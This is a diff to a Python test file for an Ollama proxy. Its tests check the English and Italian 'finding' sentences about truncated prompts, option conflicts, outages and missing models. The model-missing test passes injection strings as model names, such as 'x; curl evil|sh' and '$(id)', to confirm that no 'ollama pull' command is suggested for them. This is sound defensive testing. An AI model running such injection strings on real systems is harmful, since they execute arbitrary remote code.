@@ -13,9 +13,11 @@ from ollama_proxy.admin.estimates import Estimates
 from ollama_proxy.admin.findings import sentence
 from ollama_proxy.admin.words import LANGUAGES
 from ollama_proxy.foretelling import Asked
+from ollama_proxy.ids import iso
+from ollama_proxy.insights.conflicts import summed_up
 from ollama_proxy.insights.estimate import Estimate, Spread
 from ollama_proxy.records import FINDINGS, Finding, Occurrence
-from tests.admin.support import WORDS, World, got, served
+from tests.admin.support import NOW, WORDS, World, got, served
 from tests.storage.calls import make_call
 
 
@@ -26,7 +28,7 @@ def finding(**fields: Any) -> Finding:
         "model": "llama3.2",
         "client": "news.py",
         "other": "nightly_embed.py",
-        "detail": "num_ctx 4096 → 8192",
+        "detail": None,
         "opened_at": "2026-11-28T10:00:00.000Z",
         "last_at": "2026-11-28T11:00:00.000Z",
         "over": False,
@@ -43,12 +45,12 @@ def finding(**fields: Any) -> Finding:
 
 def test_a_sentence_says_what_who_how_often_what_it_cost_and_what_to_change() -> None:
     cut = finding(detail=None, tokens_p50=2800, tokens_max=5000)
-    assert sentence(cut, WORDS["en"]) == (
+    assert sentence(cut, WORDS["en"], NOW) == (
         "Ollama cut the prompt of 12 of 40 calls of news.py to llama3.2: typically 2,800 tokens "
         "lost each, at most 5,000, 34,000 tokens in all. In news.py, set num_ctx to 5120 or more: "
         "that would have held them all. The tokens are estimated."
     )
-    assert sentence(cut, WORDS["it"]) == (
+    assert sentence(cut, WORDS["it"], NOW) == (
         "Ollama ha tagliato il prompt di 12 chiamate su 40 di news.py a llama3.2: di solito 2.800 "
         "token persi per chiamata, al massimo 5.000, 34.000 token in tutto. In news.py, impostare "
         "num_ctx a 5120 o più: sarebbe bastato per tutti. I token sono stimati."
@@ -71,7 +73,7 @@ def test_a_sentence_says_what_who_how_often_what_it_cost_and_what_to_change() ->
 def test_what_to_set_the_context_to_is_said_as_far_as_it_is_known(
     fields: dict[str, Any], said: str
 ) -> None:
-    assert said in sentence(finding(**{"detail": None} | fields), WORDS["en"])
+    assert said in sentence(finding(**{"detail": None} | fields), WORDS["en"], NOW)
 
 
 @pytest.mark.parametrize(
@@ -110,23 +112,74 @@ def test_what_to_set_the_context_to_is_said_as_far_as_it_is_known(
 def test_options_that_differ_are_named_with_what_to_change_where(
     detail: str, why: str, remedy: str, waited: bool
 ) -> None:
-    kind, about = ("waited", f"reload {detail}") if waited else ("reload_options", detail)
+    kind, about = ("waited", "reload num_ctx") if waited else ("reload_options", "num_ctx")
     fields: dict[str, Any] = {"other": "night.py", "tokens": None, "seconds": 9.0}
-    said = sentence(finding(kind=kind, detail=about, **fields), WORDS["en"])
+    fields |= {"kind": kind, "detail": about, "options": summed_up([(detail, 1)])}
+    said = sentence(finding(**fields), WORDS["en"], NOW)
     assert why in said and said.endswith(remedy)
-    assert "{" not in sentence(finding(kind=kind, detail=about, **fields), WORDS["it"])
+    assert "{" not in sentence(finding(**fields), WORDS["it"], NOW)
+
+
+def conflict(*texts: str, **fields: Any) -> Finding:
+    options = summed_up((text, 1) for text in texts)
+    known: dict[str, Any] = {"other": "night.py", "tokens": None, "seconds": 9.0}
+    known |= {"kind": "reload_options", "detail": "num_ctx", "options": options}
+    return finding(**known | fields)
+
+
+def test_of_many_values_a_few_are_named_the_largest_among_them() -> None:
+    texts = [f"num_ctx 4096 \u2192 {size}" for size in range(5000, 5700, 100)]
+    assert (
+        "news.py asks for num_ctx 5000 or 5100 or 5600 or 4 others and night.py for num_ctx 4096: "
+    ) in sentence(conflict(*texts), WORDS["en"], NOW)
+    assert sentence(conflict(*texts), WORDS["en"], NOW).endswith(
+        "In news.py and in night.py, set num_ctx to 5600 "
+        "instead of 5000 or 5100 or 4096 or 4 others."
+    )
+    assert "num_ctx 5000 o 5100 o 5600 o 4 altri" in sentence(conflict(*texts), WORDS["it"], NOW)
+
+
+def test_who_asks_for_the_largest_alone_changes_nothing() -> None:
+    said = sentence(
+        conflict("num_ctx 2048 \u2192 8192", "num_ctx 4096 \u2192 8192"), WORDS["en"], NOW
+    )
+    assert said.endswith("In night.py, set num_ctx to 8192 instead of 2048 or 4096.")
+    own = conflict("num_ctx 2048 \u2192 8192", "num_ctx 8192 \u2192 2048", other="news.py")
+    assert sentence(own, WORDS["en"], NOW).endswith(
+        "In all of these calls, set num_ctx to 8192 instead of 2048."
+    )
+
+
+def test_a_value_that_is_no_number_is_not_lost_among_many() -> None:
+    texts = [f"num_ctx 4096 \u2192 {size}" for size in (5000, 5100, 5200, "\u2013")]
+    assert sentence(conflict(*texts), WORDS["en"], NOW).endswith(
+        "Ask for the same num_ctx in news.py and in night.py."
+    )
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_a_sentence_has_a_bearable_length_whatever_a_client_sends(language: str) -> None:
+    long = "x" * 5000
+    options = ", ".join(f"option_{n} {'9' * 300} \u2192 {'8' * 300}" for n in range(12))
+    found = conflict(options, client=long, other=long + "y", model=long)
+    said = sentence(found, WORDS[language], NOW)
+    assert len(said) < 1500
+    assert "9" in said and "option_2" in said and "option_3" not in said
+    evicted = conflict(kind="reload_evicted", detail=long, client=long, model=long)
+    assert len(sentence(evicted, WORDS[language], NOW)) < 900
 
 
 @pytest.mark.parametrize("kind", ["waited", "reload_options"])
 def test_options_that_cannot_be_read_are_not_made_up(kind: str) -> None:
-    about = "reload " if kind == "waited" else ""
+    about = "reload num_ctx" if kind == "waited" else "num_ctx"
     for value in (
         "num_ctx 1 \u2192 2, shift x y \u2192 z",
         "a b",
         f"num_ctx {'9' * 30} \u2192 {'8' * 30}",
     ):
-        said = sentence(finding(kind=kind, detail=about + value, seconds=9.0), WORDS["en"])
-        assert "sk for the same" in said
+        options = summed_up([(value, 1)])
+        found = finding(kind=kind, detail=about, options=options, seconds=9.0)
+        assert "sk for the same" in sentence(found, WORDS["en"], NOW)
 
 
 @pytest.mark.parametrize(
@@ -139,12 +192,13 @@ def test_options_that_cannot_be_read_are_not_made_up(kind: str) -> None:
 )
 def test_one_is_one(count: int, of: int, english: str, italian: str) -> None:
     found = finding(count=count, of=of)
-    assert english in sentence(found, WORDS["en"]) and italian in sentence(found, WORDS["it"])
+    assert english in sentence(found, WORDS["en"], NOW)
+    assert italian in sentence(found, WORDS["it"], NOW)
 
 
 def test_what_is_not_known_is_left_out() -> None:
     bare = finding(tokens=None, needed=None, client=None)
-    assert sentence(bare, WORDS["en"]) == (
+    assert sentence(bare, WORDS["en"], NOW) == (
         "Ollama cut the prompt of 12 of 40 calls of an unknown client to llama3.2. "
         "In an unknown client, set a larger num_ctx."
     )
@@ -153,20 +207,58 @@ def test_what_is_not_known_is_left_out() -> None:
 @pytest.mark.parametrize("language", LANGUAGES)
 @pytest.mark.parametrize("kind", FINDINGS)
 def test_every_kind_has_its_sentence(kind: str, language: str) -> None:
-    said = sentence(finding(kind=kind), WORDS[language])
-    assert "news.py" in said and "{" not in said
+    said = sentence(finding(kind=kind), WORDS[language], NOW)
+    assert ("news.py" in said) is (kind != "outage") and "{" not in said
+
+
+def test_an_outage_says_when_and_how_many_calls_met_it() -> None:
+    met: dict[str, Any] = {
+        "kind": "outage",
+        "model": None,
+        "client": None,
+        "other": None,
+        "tokens": None,
+    }
+    met |= {"opened_at": iso(NOW - 600), "last_at": iso(NOW - 180)}
+    words = WORDS["en"]
+    began, last = words.clock(NOW - 600), words.clock(NOW - 180)
+    assert sentence(finding(**met, count=12), words, NOW) == (
+        f"Ollama did not answer ({began} \u2013 {last}): 12 calls failed. "
+        "Its log says why; if it is down, start it."
+    )
+    once = finding(**met | {"last_at": met["opened_at"]}, count=1)
+    assert sentence(once, WORDS["it"], NOW).startswith(
+        f"Ollama non ha risposto ({began}): 1 chiamata non riuscita. "
+    )
+
+
+@pytest.mark.parametrize(
+    ("model", "remedy"),
+    [
+        ("qwen3:14b", "Get it (ollama pull qwen3:14b), or correct the name in signals.py."),
+        ("hf.co/Org/Model-GGUF:Q4_K_M", "Get it (ollama pull hf.co/Org/Model-GGUF:Q4_K_M), or"),
+        ("x; curl evil|sh", "Correct the name in signals.py."),
+        ("-x", "Correct the name in signals.py."),
+        ("$(id)", "Correct the name in signals.py."),
+    ],
+)
+def test_a_model_that_is_not_there_says_what_to_do(model: str, remedy: str) -> None:
+    missing = finding(kind="model_missing", model=model, client="signals.py", count=14, of=14)
+    said = sentence(missing, WORDS["en"], NOW)
+    assert said.startswith(f"{model} is not on Ollama: 14 of 14 calls of signals.py failed. ")
+    assert remedy in said and ("pull" in said) is ("pull" in remedy)
 
 
 def test_who_waited_for_whom() -> None:
     waited = finding(kind="waited", tokens=None, seconds=212.0, count=9, client="signals.py")
-    assert sentence(waited, WORDS["en"]).startswith(
+    assert sentence(waited, WORDS["en"], NOW).startswith(
         "signals.py waited 3\xa0min\xa032\xa0s for nightly_embed.py at llama3.2, in 9 of 40 calls. "
     )
 
 
 @pytest.mark.parametrize("kind", ["waited", "reload_options"])
 def test_a_client_that_is_in_its_own_way_is_named_once(kind: str) -> None:
-    said = sentence(finding(kind=kind, other="news.py", seconds=9.0), WORDS["en"])
+    said = sentence(finding(kind=kind, other="news.py", seconds=9.0), WORDS["en"], NOW)
     assert said.count("news.py") == 1
 
 
@@ -194,7 +286,7 @@ async def test_they_are_told_over_rest() -> None:
 def test_what_slowed_a_model_is_said(language: str, detail: str | None) -> None:
     slow = finding(kind="slow_decode", detail=detail, seconds=90.0, tokens=None)
     words = WORDS[language]
-    assert sentence(slow, words).endswith(words.t(f"finding.slow.{detail or 'unknown'}"))
+    assert sentence(slow, words, NOW).endswith(words.t(f"finding.slow.{detail or 'unknown'}"))
 
 
 async def test_hidden_kinds_are_told_only_where_they_are_asked_for() -> None:
@@ -207,7 +299,7 @@ async def test_hidden_kinds_are_told_only_where_they_are_asked_for() -> None:
 
 
 def test_a_hostile_name_stays_a_name() -> None:
-    said = sentence(finding(client="x\u202e{model}\n", model="{tokens}"), WORDS["en"])
+    said = sentence(finding(client="x\u202e{model}\n", model="{tokens}"), WORDS["en"], NOW)
     assert "x\\u202e{model}\\u000a to {tokens}:" in said
 
 
@@ -294,4 +386,4 @@ def test_a_cost_is_told_as_far_as_it_is_known(
     tokens: int | None, seconds: float | None, cost: str
 ) -> None:
     looped = finding(kind="looped", tokens=tokens, seconds=seconds, estimated=False)
-    assert f"over and over: {cost}. " in sentence(looped, WORDS["en"])
+    assert f"over and over: {cost}. " in sentence(looped, WORDS["en"], NOW)
